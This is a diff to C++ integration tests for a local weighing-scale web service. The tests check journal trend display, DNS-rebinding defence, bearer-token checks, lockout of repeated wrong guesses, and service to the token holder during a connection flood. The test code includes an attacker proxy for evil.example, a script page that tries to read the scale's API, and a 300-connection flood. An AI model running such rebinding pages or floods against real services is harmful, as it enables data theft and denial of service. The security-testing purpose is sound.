@@ -2,9 +2,12 @@
 // anything else runs; only the loopback device, which also gets an address outside 127/8 where a
 // test needs a client that is not loopback), so nothing here can reach beyond this machine:
 // - the live page in a real browser: Debian's Chromium, headless, loads the page from the running
-//   service and its DOM shows the current reading, the report lines and the trend; a screenshot
-//   is saved for a person to look at (WAGA_SERVICE_PAGE_PNG names the file);
-// - a client that is not on loopback needs the token (401 without it).
+//   service and its DOM shows the read-out, the report lines and the trend from the journal, the
+//   trend broken where the scale was unplugged; a screenshot is saved for a person to look at
+//   (WAGA_SERVICE_PAGE_PNG names the file);
+// - a page of another name that resolves to this computer (DNS rebinding) reads nothing;
+// - a client that is not on loopback needs the token (401 without it), its wrong guesses are
+//   slowed, and a flood of clients without one never keeps the token holder out.
 #include <gtest/gtest.h>
 #include <net/if.h>
 #include <sched.h>
@@ -18,7 +21,10 @@
 #include <QImage>
 #include <QProcess>
 #include <QStandardPaths>
+#include <QTcpServer>
+#include <atomic>
 #include <cstring>
+#include <thread>
 
 #include "HttpClient.h"
 #include "ServiceFixture.h"
@@ -83,13 +89,19 @@ class ServiceBrowser : public ServiceFixture {
     QString chromium_;
 };
 
-TEST_F(ServiceBrowser, PageShowsTheCurrentReadingReportsAndTrend) {
+// The program ran for five minutes before the service was switched on: the page's trend and
+// report lines come from the journal; the line breaks where the scale was unplugged; after an
+// unplug the page shows what the program's read-out shows (nothing).
+TEST_F(ServiceBrowser, PageShowsTheReadoutReportsAndTheTrendFromTheJournal) {
     StartService();
     ASSERT_NE(port_, 0);
     const std::int64_t now = UtcNowMs();
     pipeline_.AnnouncePortState(PortState::Opened);
-    // Five minutes of readings (a load put on and taken off) and a few report lines.
+    // Five minutes of readings (a load put on and taken off, the scale unplugged for a minute
+    // in between) and report lines, 28 of them, the last 20 on the page.
+    int reports = 0;
     for (int i = 0; i <= 140; ++i) {
+        if (i >= 100 && i < 130) continue;  // unplugged
         clockMs_ = now - 290000 + i * 2000;
         const double value = i < 30 ? 0.0 : i < 90 ? 12.0 + (i % 7) * 0.05 : i < 110 ? 0.0 : 12.34;
         char text[32];
@@ -97,24 +109,28 @@ TEST_F(ServiceBrowser, PageShowsTheCurrentReadingReportsAndTrend) {
         std::string line(text);
         std::replace(line.begin(), line.end(), '.', ',');
         Feed(line);
-        if (i % 35 == 0)
+        if (i % 4 == 0)
             Feed(
                 "Wa\xBF"
                 "enie nr " +
-                std::to_string(i / 35 + 1) + ": " + line);
+                std::to_string(++reports) + ": " + line);
     }
+    journal_.Commit();
     clockMs_ = 0;
+    StartService();  // switched on now: it has seen none of it
     Feed("   12,34\r");
     Settle();
     const QString url = QStringLiteral("http://127.0.0.1:%1/").arg(port_);
 
-    const QString dom = QString::fromUtf8(RunChromium({"--dump-dom"}, url));
+    QString dom = QString::fromUtf8(RunChromium({"--dump-dom"}, url));
     EXPECT_TRUE(dom.contains(QStringLiteral("<span id=\"waga\">12,34</span>")))
         << dom.toStdString();
     EXPECT_TRUE(dom.contains(QStringLiteral("<span id=\"jednostka\">kg</span>")));
-    // Filled in by the page's script from the state the server gave it.
-    EXPECT_TRUE(dom.contains(QStringLiteral("<li>Ważenie nr 1:")));
-    EXPECT_TRUE(dom.contains(QStringLiteral("<li>Ważenie nr 5:")));
+    // Filled in by the page's script from the journal: the last 20 report lines.
+    ASSERT_EQ(reports, 28);
+    EXPECT_FALSE(dom.contains(QStringLiteral("<li>Ważenie nr 8:")));
+    EXPECT_TRUE(dom.contains(QStringLiteral("<li>Ważenie nr 9:")));
+    EXPECT_TRUE(dom.contains(QStringLiteral("<li>Ważenie nr 28:")));
     EXPECT_TRUE(dom.contains(QStringLiteral("COM2: połączono"))) << dom.toStdString();
 
     const QString png = qEnvironmentVariableIsSet("WAGA_SERVICE_PAGE_PNG")
@@ -126,19 +142,141 @@ TEST_F(ServiceBrowser, PageShowsTheCurrentReadingReportsAndTrend) {
     const QImage shot(png);
     ASSERT_FALSE(shot.isNull()) << png.toStdString();
     EXPECT_EQ(shot.width(), 1100);
-    // The trend line (its colour) is drawn on the canvas.
+    // The trend line (its colour, give or take the edges' smoothing) is drawn on the canvas in
+    // two parts, the minute unplugged between them without it.
+    const auto lineColour = [](QRgb c) {
+        return std::abs(qRed(c) - 0x1f) < 40 && std::abs(qGreen(c) - 0x6f) < 40 &&
+               std::abs(qBlue(c) - 0xb2) < 40;
+    };
+    std::vector<bool> drawn(std::size_t(shot.width()), false);
     int trendPixels = 0;
     for (int y = 0; y < shot.height(); ++y) {
         for (int x = 0; x < shot.width(); ++x) {
-            if (shot.pixel(x, y) == qRgb(0x1f, 0x6f, 0xb2)) ++trendPixels;
+            if (lineColour(shot.pixel(x, y))) {
+                ++trendPixels;
+                drawn[std::size_t(x)] = true;
+            }
         }
     }
     EXPECT_GT(trendPixels, 200);
+    // Parts: drawn columns separated by more than 8 columns without the line.
+    int parts = 0;
+    int empty = 1000;
+    for (const bool column : drawn) {
+        if (column && empty > 8) ++parts;
+        empty = column ? 0 : empty + 1;
+    }
+    EXPECT_EQ(parts, 2);
+
+    pipeline_.AnnouncePortState(PortState::Lost);
+    Settle();
+    dom = QString::fromUtf8(RunChromium({"--dump-dom"}, url));
+    EXPECT_TRUE(dom.contains(QStringLiteral("<span id=\"waga\">—</span>"))) << dom.toStdString();
+    EXPECT_TRUE(dom.contains(QStringLiteral("COM2: brak połączenia z wagą")));
+}
+
+// The attacker's server for evil.example: its page at /atak.html, and every other request passed
+// on, as it is (Host: evil.example:PORT), to the service, as after a rebinding of the name to
+// 127.0.0.1 the browser would send it.
+class RebindingProxy : public QObject {
+  public:
+    RebindingProxy(const QHostAddress& address, quint16 port, quint16 servicePort)
+        : servicePort_(servicePort) {
+        EXPECT_TRUE(server_.listen(address, port)) << server_.errorString().toStdString();
+        connect(&server_, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket* client = server_.nextPendingConnection()) Serve(client);
+        });
+    }
+
+  private:
+    void Serve(QTcpSocket* client) {
+        connect(client, &QTcpSocket::disconnected, client, &QObject::deleteLater);
+        connect(client, &QTcpSocket::readyRead, this, [this, client] {
+            if (client->property("upstream").isValid()) return;
+            const QByteArray head = client->peek(client->bytesAvailable());
+            if (!head.contains("\r\n\r\n")) return;
+            if (head.startsWith("GET /atak.html ")) {
+                client->readAll();
+                client->write(
+                    "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
+                    "Connection: close\r\nContent-Length: " +
+                    QByteArray::number(kPage.size()) + "\r\n\r\n" + kPage);
+                client->disconnectFromHost();
+                return;
+            }
+            auto* upstream = new QTcpSocket(client);
+            client->setProperty("upstream", true);
+            connect(upstream, &QTcpSocket::connected, client,
+                    [client, upstream] { upstream->write(client->readAll()); });
+            connect(client, &QTcpSocket::readyRead, upstream, [client, upstream] {
+                if (upstream->state() == QAbstractSocket::ConnectedState) {
+                    upstream->write(client->readAll());
+                }
+            });
+            connect(upstream, &QTcpSocket::readyRead, client,
+                    [client, upstream] { client->write(upstream->readAll()); });
+            connect(upstream, &QTcpSocket::disconnected, client, &QTcpSocket::disconnectFromHost);
+            upstream->connectToHost(QHostAddress::LocalHost, servicePort_);
+        });
+    }
+
+    // What the attacker's page tries: read the weight, the journal and the health.
+    static inline const QByteArray kPage = R"(<!doctype html>
+<html><head><meta charset="utf-8"><title>atak</title></head><body><pre id="wynik"></pre><script>
+function probe(path) {
+  const request = new XMLHttpRequest();
+  request.open('GET', path, false);
+  try { request.send(); } catch (e) { return path + ' blad ' + e; }
+  return path + ' ' + request.status + ' ' + request.responseText;
+}
+document.getElementById('wynik').textContent =
+  ['/api/v1/weight', '/api/v1/lines?since=0&limit=1000', '/api/v1/health'].map(probe).join('\n');
+</script></body></html>
+)";
+    QTcpServer server_;
+    quint16 servicePort_;
+};
+
+TEST_F(ServiceBrowser, RebindingPageOfAnotherNameReadsNothing) {
+    struct Row {
+        const char* names;  // Nazwy
+        int status;
+    };
+    // The second row shows what the page would read from a name the station answers to.
+    const Row rows[] = {{"", 421}, {"evil.example", 200}};
+    for (const Row& row : rows) {
+        SCOPED_TRACE(row.names);
+        ServiceSettings settings;
+        settings.names = row.names;
+        StartService(settings);
+        ASSERT_NE(port_, 0);
+        Feed("  12,34\rTajny raport 7\r");
+        journal_.Commit();
+        Settle();
+        // evil.example is the attacker's server at first, then 127.0.0.1: the proxy on
+        // 127.0.0.2 with the service's port plays both, so the page's origin stays the same.
+        RebindingProxy proxy(QHostAddress("127.0.0.2"), port_, port_);
+        const QString dom = QString::fromUtf8(
+            RunChromium({"--dump-dom", "--host-resolver-rules=MAP evil.example 127.0.0.2"},
+                        QStringLiteral("http://evil.example:%1/atak.html").arg(port_)));
+        const QString status = QStringLiteral(" %1 ").arg(row.status);
+        for (const char* path :
+             {"/api/v1/weight ", "/api/v1/lines?since=0&amp;limit=1000 ", "/api/v1/health "}) {
+            EXPECT_TRUE(dom.contains(QString::fromLatin1(path).trimmed() + status))
+                << path << "\n"
+                << dom.toStdString();
+        }
+        EXPECT_EQ(dom.contains(QStringLiteral("12,34")), row.status == 200);
+        EXPECT_EQ(dom.contains(QStringLiteral("Tajny raport")), row.status == 200);
+    }
 }
 
 // A non-loopback address on the namespace's own loopback device (TEST-NET-2, the namespace's
 // alone).
 constexpr char kOwnAddress[] = "198.51.100.7";
+// Another computer, as far as the service can tell.
+constexpr char kOtherAddress[] = "198.51.100.8";
+constexpr char kToken[] = "Zb9-tajny_token-16+";
 
 class ServiceRemoteClient : public ServiceFixture {
   protected:
@@ -148,52 +286,137 @@ class ServiceRemoteClient : public ServiceFixture {
         if (ip.isEmpty()) GTEST_SKIP() << "ip (iproute2) is not installed (scripts/setup)";
         static bool made = false;
         if (!made) {
-            const QStringList args{"addr", "add", QString(kOwnAddress) + "/32", "dev", "lo"};
-            ASSERT_EQ(QProcess::execute(ip, args), 0) << args.join(' ').toStdString();
+            for (const char* address : {kOwnAddress, kOtherAddress}) {
+                const QStringList args{"addr", "add", QString(address) + "/32", "dev", "lo"};
+                ASSERT_EQ(QProcess::execute(ip, args), 0) << args.join(' ').toStdString();
+            }
             made = true;
         }
         ServiceFixture::SetUp();
     }
+    void StartRemote(WeightServerOptions options = {}) {
+        ServiceSettings settings;
+        settings.address = kOwnAddress;
+        settings.token = kToken;
+        StartService(settings, options);
+        ASSERT_EQ(service_->CurrentState(), WeightService::State::Running)
+            << service_->Cause().toStdString();
+    }
+    // One GET from `from` with `authorization` (none when empty).
+    HttpAnswer Ask(const char* from, const QByteArray& authorization,
+                   const QByteArray& target = "/api/v1/weight") {
+        QList<QPair<QByteArray, QByteArray>> headers;
+        if (!authorization.isEmpty()) headers.append({"Authorization", authorization});
+        return Request(port_, "GET", target, headers, QHostAddress(kOwnAddress),
+                       QHostAddress(from));
+    }
 };
 
 TEST_F(ServiceRemoteClient, NeedsTheBearerToken) {
-    ServiceSettings settings;
-    settings.address = kOwnAddress;
-    settings.token = "Zb9-tajny_token";
-    StartService(settings);
-    ASSERT_EQ(service_->CurrentState(), WeightService::State::Running)
-        << service_->Cause().toStdString();
+    StartRemote();
     const QHostAddress server(kOwnAddress);
+    const QByteArray right = QByteArray("Bearer ") + kToken;
     struct Row {
         const char* target;
         const char* method;
-        const char* authorization;  // nullptr: none
+        QByteArray authorization;  // empty: none
         int status;
     };
     const Row rows[] = {
-        {"/api/v1/weight", "GET", nullptr, 401},
+        {"/api/v1/weight", "GET", {}, 401},
         {"/api/v1/weight", "GET", "Bearer zly", 401},
-        {"/api/v1/weight", "GET", "Bearer Zb9-tajny_token", 200},
-        {"/api/v1/events?x", "GET", nullptr, 401},
-        {"/", "GET", nullptr, 401},
-        {"/nothing", "GET", nullptr, 401},  // nothing is told without the token
-        {"/nothing", "GET", "Bearer Zb9-tajny_token", 404},
-        {"/api/v1/weight", "OPTIONS", nullptr, 204},  // preflight carries no credentials
+        {"/api/v1/weight", "GET", right, 200},
+        {"/api/v1/weight", "GET", QByteArray("bearer ") + kToken, 200},  // any case
+        {"/api/v1/weight", "GET", QByteArray("Basic ") + kToken, 401},
+        {"/api/v1/events?x", "GET", {}, 401},
+        {"/", "GET", {}, 401},
+        {"/nothing", "GET", {}, 401},  // nothing is told without the token
+        {"/nothing", "GET", right, 404},
+        {"/api/v1/weight", "OPTIONS", {}, 204},  // preflight carries no credentials
     };
     for (const Row& row : rows) {
-        SCOPED_TRACE(std::string(row.method) + " " + row.target);
+        SCOPED_TRACE(std::string(row.method) + " " + row.target + " " +
+                     row.authorization.toStdString());
         QList<QPair<QByteArray, QByteArray>> headers;
-        if (row.authorization) {
-            headers.append(qMakePair(QByteArray("Authorization"), QByteArray(row.authorization)));
-        }
+        if (!row.authorization.isEmpty()) headers.append({"Authorization", row.authorization});
         const HttpAnswer answer =
             Request(port_, row.method, row.target, headers, server, QHostAddress(kOwnAddress));
         EXPECT_EQ(answer.status, row.status);
         if (row.status == 401) {
             EXPECT_EQ(answer.Header("WWW-Authenticate"), "Bearer");
             EXPECT_FALSE(answer.Json().value("error").toString().isEmpty());
+            EXPECT_EQ(answer.Header("Connection"), "close");  // it holds no place
         }
     }
+}
+
+TEST_F(ServiceRemoteClient, RepeatedWrongTokensMakeThatAddressWait) {
+    WeightServerOptions options;
+    options.limits.firstGuessWaitMs = 60000;  // 1 s in the program: long enough to see here
+    StartRemote(options);
+    for (int i = 1; i <= 6; ++i) {
+        EXPECT_EQ(Ask(kOtherAddress, "Bearer zgadywany-token-" + QByteArray::number(i)).status, 401)
+            << i;
+    }
+    // The sixth wrong one shut the address out: not even the right token is looked at now.
+    const HttpAnswer waiting = Ask(kOtherAddress, QByteArray("Bearer ") + kToken);
+    EXPECT_EQ(waiting.status, 429);
+    EXPECT_GT(waiting.Header("Retry-After").toInt(), 0);  // whole seconds, at most a minute
+    EXPECT_LE(waiting.Header("Retry-After").toInt(), 60);
+    EXPECT_FALSE(waiting.Json().value("error").toString().isEmpty());
+    // Another address is not.
+    EXPECT_EQ(Ask(kOwnAddress, QByteArray("Bearer ") + kToken).status, 200);
+}
+
+// 300 idle connections, requests and event streams without the token, all from one address,
+// while the token holder asks from another: every one of its requests is answered.
+TEST_F(ServiceRemoteClient, TokenHolderIsServedDuringAnUnauthenticatedFlood) {
+    StartRemote();
+    const quint16 port = port_;
+    std::vector<std::unique_ptr<QTcpSocket>> idle;
+    for (int i = 0; i < 300; ++i) {
+        auto socket = std::make_unique<QTcpSocket>();
+        socket->bind(QHostAddress(kOtherAddress));
+        socket->connectToHost(QHostAddress(kOwnAddress), port);
+        if (socket->waitForConnected(3000)) idle.push_back(std::move(socket));
+    }
+    std::atomic<bool> stop{false};
+    std::atomic<int> flood{0};
+    std::atomic<int> floodServed{0};
+    std::thread flooder([&] {
+        while (!stop) {
+            for (const char* target : {"/api/v1/weight", "/api/v1/events", "/api/v1/lines"}) {
+                // Without the token: 401, 429 once the address holds its 32 connections, or
+                // no answer at all when too many refused connections linger already.
+                if (Request(port, "GET", target, {}, QHostAddress(kOwnAddress),
+                            QHostAddress(kOtherAddress))
+                        .status == 200) {
+                    ++floodServed;
+                }
+                ++flood;
+            }
+        }
+    });
+    const QByteArray token = QByteArray("Bearer ") + kToken;
+    int served = 0;
+    for (int i = 0; i < 50; ++i) {
+        const HttpAnswer answer = Ask(kOwnAddress, token);
+        if (answer.status == 200 && answer.Json().contains("reading")) ++served;
+    }
+    QTcpSocket stream;  // and an event stream, as the token holder's program would keep
+    stream.bind(QHostAddress(kOwnAddress));
+    stream.connectToHost(QHostAddress(kOwnAddress), port);
+    ASSERT_TRUE(stream.waitForConnected(3000));
+    stream.write("GET /api/v1/events HTTP/1.1\r\nHost: " + QByteArray(kOwnAddress) +
+                 "\r\nAuthorization: " + token + "\r\n\r\n");
+    EXPECT_EQ(ReadAnswer(stream, 5000, false).status, 200);
+    stop = true;
+    flooder.join();
+    EXPECT_EQ(served, 50);
+    EXPECT_GT(flood, 0);
+    EXPECT_EQ(floodServed, 0);
+    const QJsonObject health = Ask(kOwnAddress, token, "/api/v1/health").Json();
+    EXPECT_GE(health.value("refused_connections").toInteger(), 300 - 32);
 }
 
 }  // namespace
